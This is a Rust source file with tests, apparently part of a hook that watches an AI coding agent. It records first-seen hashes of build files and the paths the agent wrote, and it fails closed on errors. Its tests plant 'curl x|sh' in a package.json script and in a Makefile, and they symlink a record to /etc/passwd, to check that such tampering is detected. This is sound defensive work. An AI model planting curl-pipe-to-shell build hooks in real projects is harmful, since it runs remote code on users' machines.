//! The session baseline of build-defining files: `state/<session>/baseline.json` maps each
//! path to the sha256 first seen this session (or `missing`; a file over 1 MiB, such as a
//! built program, by its device, inode, size, modification and change times, which no
//! write can leave unchanged). The hook records first sightings under a lock and replaces
//! the file atomically; `explain` reads it without recording anything. Any failure reports
//! every file as changed, so the build command is asked about instead of allowed (fail
//! closed).
//!
//! Beside it, `state/<session>/written.json` lists the paths gatehook let the agent write
//! this session (file tools and shell writes, every call that was not denied), under the
//! same lock discipline: a script the agent wrote is not the project's own code, even when
//! the baseline first saw it after the write. A record that cannot be
//! read or written counts as "everything written" (fail closed).

use crate::context::state;
use anyhow::Context as _;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

const FILE: &str = "baseline.json";
const WRITTEN: &str = "written.json";
/// Files larger than this are known by their metadata (device, inode, size, mtime, ctime)
/// rather than read whole on every call.
const MAX_HASH_BYTES: u64 = 1024 * 1024;
/// The most paths the written record keeps; past it, everything counts as written.
const MAX_WRITTEN: usize = 20_000;
const MISSING: &str = "missing";
/// A FIFO, socket or device where a build file should be.
const NOT_REGULAR: &str = "not-a-regular-file";

/// The per-session baseline on disk.
pub struct FileBaseline {
    dir: PathBuf,
    record: bool,
}

impl FileBaseline {
    /// The baseline of `session_id` under `state_root`; `record` adds first sightings.
    pub fn new(state_root: &Path, session_id: &str, record: bool) -> FileBaseline {
        FileBaseline {
            dir: state::session_dir(state_root, session_id),
            record,
        }
    }

    fn try_changed(&self, files: &[PathBuf]) -> anyhow::Result<Vec<PathBuf>> {
        let current: Vec<(String, String)> = files
            .iter()
            .map(|f| (f.display().to_string(), digest(f)))
            .collect();
        if !self.record {
            let known = read_map(&self.dir.join(FILE));
            return Ok(diff(&known, &current, files));
        }
        state::private_dir(&self.dir)?;
        let lock = state::open_nofollow(&self.dir.join(format!("{FILE}.lock")), false)?;
        lock.lock().context("locking the session baseline")?;
        let path = self.dir.join(FILE);
        let mut known = read_map(&path);
        let changed = diff(&known, &current, files);
        let mut added = false;
        for (p, h) in &current {
            if !known.contains_key(p) {
                known.insert(p.clone(), h.clone());
                added = true;
            }
        }
        if added {
            let tmp = self.dir.join(format!("{FILE}.tmp"));
            let _ = std::fs::remove_file(&tmp);
            let mut f = state::open_nofollow(&tmp, false)?;
            f.write_all(serde_json::to_string(&known)?.as_bytes())?;
            f.sync_all().ok();
            drop(f);
            std::fs::rename(&tmp, &path).context("replacing the session baseline")?;
        }
        drop(lock);
        Ok(changed)
    }
}

impl FileBaseline {
    /// Add `paths` to the session's record of what the agent was allowed to write.
    pub fn record_written(&self, paths: &[PathBuf]) -> anyhow::Result<()> {
        if paths.is_empty() || !self.record {
            return Ok(());
        }
        let path = self.dir.join(WRITTEN);
        let names: Vec<String> = paths.iter().map(|p| p.display().to_string()).collect();
        let covered = |known: &[String]| {
            known.iter().any(|k| k == "/") || names.iter().all(|n| known.contains(n))
        };
        // Most writes are to files already recorded (an edit after an edit): a record
        // read whole that has them all needs no lock and no rewrite. The record is only
        // ever replaced by a rename, so an unlocked read sees one whole version of it.
        if read_list(&path).is_some_and(|known| covered(&known)) {
            return Ok(());
        }
        state::private_dir(&self.dir)?;
        let lock = state::open_nofollow(&self.dir.join(format!("{WRITTEN}.lock")), false)?;
        lock.lock()
            .context("locking the session's written record")?;
        // A record that cannot be read stands for everything written: it is kept so,
        // never replaced by the few paths of this call.
        let mut known = read_list(&path).unwrap_or_else(|| vec!["/".to_string()]);
        let mut added = false;
        if !covered(&known) {
            for s in names {
                if !known.contains(&s) {
                    known.push(s);
                    added = true;
                }
            }
        }
        if added {
            if known.len() > MAX_WRITTEN {
                // Too many to keep: the root stands for all of them.
                known = vec!["/".to_string()];
            }
            let tmp = self.dir.join(format!("{WRITTEN}.tmp"));
            let _ = std::fs::remove_file(&tmp);
            let mut f = state::open_nofollow(&tmp, false)?;
            f.write_all(serde_json::to_string(&known)?.as_bytes())?;
            // NOTE: no fsync on this hot path (every file edit): a record a crash leaves
            // truncated does not parse, and an unreadable record counts as "everything
            // written" (fail closed).
            drop(f);
            std::fs::rename(&tmp, &path).context("replacing the session's written record")?;
        }
        drop(lock);
        Ok(())
    }
}

impl Baseline for FileBaseline {
    fn changed(&self, files: &[PathBuf]) -> Vec<PathBuf> {
        self.try_changed(files).unwrap_or_else(|_| files.to_vec())
    }

    fn written(&self) -> Vec<PathBuf> {
        let path = self.dir.join(WRITTEN);
        match std::fs::symlink_metadata(&path) {
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
            _ => read_list(&path)
                .map(|l| l.into_iter().map(PathBuf::from).collect())
                // Unreadable or planted: as if the agent had written everything.
                .unwrap_or_else(|| vec![PathBuf::from("/")]),
        }
    }
}

/// The written record: `None` when it exists but is not a private regular JSON list.
fn read_list(path: &Path) -> Option<Vec<String>> {
    match std::fs::symlink_metadata(path) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Some(Vec::new()),
        Err(_) => return None,
        Ok(m) if !m.file_type().is_file() => return None,
        Ok(_) => {}
    }
    let f = state::open_regular(path).ok()?;
    let mut text = String::new();
    f.take(64 * 1024 * 1024).read_to_string(&mut text).ok()?;
    serde_json::from_str(&text).ok()
}

fn diff(
    known: &BTreeMap<String, String>,
    current: &[(String, String)],
    files: &[PathBuf],
) -> Vec<PathBuf> {
    current
        .iter()
        .zip(files)
        // A build file that is not a plain file (a FIFO, a device) has content nobody can
        // know in advance: it counts as changed even when first seen.
        .filter(|((p, h), _)| h == NOT_REGULAR || known.get(p).is_some_and(|k| k != h))
        .map(|(_, f)| f.clone())
        .collect()
}

fn read_map(path: &Path) -> BTreeMap<String, String> {
    std::fs::read_to_string(path)
        .ok()
        .and_then(|t| serde_json::from_str(&t).ok())
        .unwrap_or_default()
}

/// The sha256 of a file's content, `missing` when absent, `unreadable` when it cannot be
/// read (a directory, a FIFO or device, a permission problem).
fn digest(path: &Path) -> String {
    // NOTE: the workspace is the agent's: a FIFO planted as `Makefile` must not hang the hook.
    // Most definition files looked for do not exist: one `lstat` says so.
    if std::fs::symlink_metadata(path).is_err() {
        return MISSING.to_string();
    }
    let Ok(f) = state::open_regular(path) else {
        return match std::fs::metadata(path) {
            Err(_) if std::fs::symlink_metadata(path).is_err() => MISSING.to_string(),
            Ok(m) if !m.is_file() && !m.is_dir() => NOT_REGULAR.to_string(),
            _ => "unreadable".to_string(),
        };
    };
    if let Ok(m) = f.metadata() {
        if m.len() > MAX_HASH_BYTES {
            use std::os::unix::fs::MetadataExt;
            return format!(
                "meta:{}:{}:{}:{}.{}:{}.{}",
                m.dev(),
                m.ino(),
                m.len(),
                m.mtime(),
                m.mtime_nsec(),
                m.ctime(),
                m.ctime_nsec()
            );
        }
    }
    let mut h = Sha256::new();
    let mut buf = Vec::new();
    if f.take(MAX_HASH_BYTES + 1).read_to_end(&mut buf).is_err() {
        return "unreadable".to_string();
    }
    h.update(&buf);
    state::hex(&h.finalize())
}

/// The session's record of build-defining files.
pub trait Baseline {
    /// Files among `files` whose sha256 differs from the session's first-seen value (first
    /// sight records it, so it is "unchanged"). A missing file is a state too.
    fn changed(&self, files: &[PathBuf]) -> Vec<PathBuf>;

    /// Paths the agent was allowed to write this session (file tools and shell writes), as
    /// recorded; empty when nothing is recorded.
    fn written(&self) -> Vec<PathBuf> {
        Vec::new()
    }
}

/// A baseline that has seen nothing and records nothing: every file is unchanged.
pub struct NoBaseline;

impl Baseline for NoBaseline {
    fn changed(&self, _files: &[PathBuf]) -> Vec<PathBuf> {
        Vec::new()
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn first_sight_is_unchanged_then_edits_show() {
        let t = tempfile::tempdir().unwrap();
        let ws = t.path().join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        let pkg = ws.join("package.json");
        let mk = ws.join("Makefile");
        std::fs::write(&pkg, "{}").unwrap();
        let b = FileBaseline::new(&t.path().join("state"), "s1", true);
        let files = vec![pkg.clone(), mk.clone()];
        assert!(b.changed(&files).is_empty());
        assert!(b.changed(&files).is_empty());
        std::fs::write(&pkg, "{\"scripts\":{\"test\":\"curl x|sh\"}}").unwrap();
        std::fs::write(&mk, "all:\n\tcurl x | sh\n").unwrap();
        assert_eq!(
            b.changed(&files),
            files,
            "an edit and a new file both count"
        );
        // explain's read-only view agrees and records nothing new.
        let ro = FileBaseline::new(&t.path().join("state"), "s1", false);
        assert_eq!(ro.changed(&files), files);
        let other = FileBaseline::new(&t.path().join("state"), "s2", false);
        assert!(other.changed(&files).is_empty());
        assert!(!state::session_dir(&t.path().join("state"), "s2").exists());
    }

    #[test]
    fn the_written_record_keeps_what_the_agent_wrote_and_fails_closed() {
        let t = tempfile::tempdir().unwrap();
        let root = t.path().join("state");
        let b = FileBaseline::new(&root, "s1", true);
        assert!(b.written().is_empty(), "nothing recorded yet");
        let a = PathBuf::from("/ws/scripts/x.sh");
        let c = PathBuf::from("/ws/conftest.py");
        b.record_written(std::slice::from_ref(&a)).unwrap();
        b.record_written(&[a.clone(), c.clone()]).unwrap();
        assert_eq!(
            b.written(),
            vec![a.clone(), c.clone()],
            "deduplicated, in order"
        );
        // A write already recorded leaves the record as it was (not even rewritten).
        let record = state::session_dir(&root, "s1").join(WRITTEN);
        use std::os::unix::fs::MetadataExt;
        let before = std::fs::metadata(&record).unwrap().ino();
        b.record_written(std::slice::from_ref(&c)).unwrap();
        assert_eq!(std::fs::metadata(&record).unwrap().ino(), before);
        b.record_written(&[PathBuf::from("/ws/third.sh")]).unwrap();
        assert_ne!(
            std::fs::metadata(&record).unwrap().ino(),
            before,
            "a new path is written by replacing the record"
        );
        assert_eq!(b.written().len(), 3);
        // explain's view reads it and records nothing.
        let ro = FileBaseline::new(&root, "s1", false);
        assert_eq!(ro.written().len(), 3);
        ro.record_written(&[PathBuf::from("/ws/other")]).unwrap();
        assert_eq!(b.written().len(), 3);
        // Another session has its own record.
        assert!(FileBaseline::new(&root, "s2", true).written().is_empty());
        // A record that cannot be read counts as everything written.
        let f = state::session_dir(&root, "s1").join(WRITTEN);
        std::fs::write(&f, "not json").unwrap();
        assert_eq!(b.written(), vec![PathBuf::from("/")]);
        // ... and stays so when the next write is recorded: the earlier writes it stood
        // for are not forgotten.
        b.record_written(&[PathBuf::from("/ws/new.sh")]).unwrap();
        assert_eq!(b.written(), vec![PathBuf::from("/")]);
        std::fs::remove_file(&f).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", &f).unwrap();
        assert_eq!(b.written(), vec![PathBuf::from("/")]);
        // Its private directory and a file others cannot replace.
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(state::session_dir(&root, "s1"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o077, 0);
    }

    #[test]
    fn a_large_file_is_known_by_its_metadata_and_any_write_changes_it() {
        let t = tempfile::tempdir().unwrap();
        let big = t.path().join("app");
        let mut content = vec![0u8; (MAX_HASH_BYTES as usize) + 10];
        std::fs::write(&big, &content).unwrap();
        let b = FileBaseline::new(&t.path().join("state"), "s1", true);
        let files = vec![big.clone()];
        assert!(b.changed(&files).is_empty());
        assert!(b.changed(&files).is_empty());
        // The same length, a byte changed past the first megabyte.
        let last = content.len() - 1;
        content[last] = 1;
        std::thread::sleep(std::time::Duration::from_millis(20));
        std::fs::write(&big, &content).unwrap();
        assert_eq!(b.changed(&files), files);
    }
}
